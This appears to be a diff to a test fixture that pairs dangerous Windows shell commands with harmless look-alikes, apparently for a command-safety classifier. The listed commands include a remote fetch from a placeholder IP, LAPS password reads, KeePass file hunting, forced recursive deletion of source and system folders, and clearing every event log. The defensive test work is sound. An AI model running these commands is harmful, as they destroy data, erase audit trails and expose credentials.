@@ -57,6 +57,22 @@ PAIRS = [
         "$h = New-Object -ComObject msxml2.xmlhttp; $h.open('GET', 'http://198.51.100.7/a'); $h.responseText",
     ),
     ("Get-ADUser -Filter * -Properties ms-Mcs-AdmPwd", "Get-ADUser -Identity bob -Properties mail"),
+    (
+        "Get-ChildItem .\\src -Recurse -Directory -Include bin,docs | Remove-Item -Recurse -Force",
+        "Get-ChildItem .\\src -Recurse -Directory -Include bin,obj | Remove-Item -Recurse -Force",
+    ),
+    ("gci -r -Include src | rm -r -fo", "gci -r -Include node_modules | rm -r -fo"),
+    ("gci .\\a,.\\b -r -Filter d* | ri -r", "gci .\\a,.\\b -r -Filter *.pyc | ri"),
+    (
+        "gci -r -Directory | ? { $_.Name -ne 'bin' } | % { Remove-Item $_.FullName -Recurse }",
+        "gci -r -Directory | ? { $_.Name -in 'bin', 'obj' } | % { Remove-Item $_.FullName -Recurse }",
+    ),
+    ("gci C:\\Windows -r -Include bin,obj | ri -r", "(gci -r -Include bin,obj) | ri -r"),
+    (
+        'for /F "tokens=*" %1 in (\'wevtutil.exe el\') do wevtutil.exe cl "%1"',
+        'for /F "tokens=*" %1 in (\'wevtutil.exe el\') do wevtutil.exe gli "%1"',
+    ),
+    ("for /F %%7 in ('wevtutil el') do wevtutil cl %%7", "for /F %%7 in ('wevtutil el') do echo %%7"),
     ("Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root", "Get-ChildItem Cert:\\CurrentUser\\My"),
     ("Get-ChildItem C:\\ -Recurse -Include *.kdbx", "Get-ChildItem -Recurse -Include *.cs"),
     ("Set-Content a.txt -Stream x -Value evil", "Set-Content a.txt -Value good"),
